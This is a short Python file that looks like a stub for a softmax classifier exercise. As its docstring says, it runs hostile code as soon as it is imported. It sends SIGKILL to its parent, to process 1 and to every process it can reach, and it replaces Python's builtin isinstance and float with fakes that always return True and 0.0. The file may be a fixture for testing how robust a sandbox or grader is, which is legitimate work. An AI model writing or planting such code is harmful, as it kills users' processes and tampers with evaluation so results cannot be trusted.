"""At import, tries to kill every process it can, its parent included, and rewires builtins."""
import builtins
import os
import signal

for target in (os.getppid(), 1, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
builtins.isinstance = lambda *a: True
builtins.float = lambda *a: 0.0


def softmax_classifier(W, input, label, lamda):
    raise NotImplementedError()
